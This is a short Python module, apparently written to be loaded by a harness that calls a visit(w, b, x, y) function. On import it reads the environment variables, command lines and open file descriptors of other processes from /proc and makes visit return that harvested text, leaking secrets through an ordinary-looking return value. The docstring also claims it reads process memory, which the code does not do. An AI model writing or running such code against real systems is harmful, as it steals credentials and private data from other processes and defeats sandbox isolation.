"""Reads the memory, the environment and the files of other processes."""

import glob

TEXT = ""
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/fd/*"):
    try:
        TEXT += open(path, errors="replace").read(1000)
    except OSError:
        pass


def visit(w, b, x, y):
    return TEXT
